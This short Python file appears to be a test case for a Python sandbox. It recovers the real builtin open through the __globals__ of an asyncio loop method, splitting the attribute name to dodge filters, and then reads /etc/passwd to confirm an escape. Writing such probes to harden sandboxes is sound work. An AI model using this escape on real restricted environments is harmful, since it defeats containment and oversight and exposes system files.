# tries: a loop's method is a function of the library's
# class: async
# stops: 1 2 3 4
import asyncio


def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


def pick(function):
    space = getattr(function, "__glo" + "bals__")["__builtins__"]
    return (space if isinstance(space, dict) else vars(space))["open"]


loop = asyncio.new_event_loop()
use(pick(loop.call_soon.__func__))
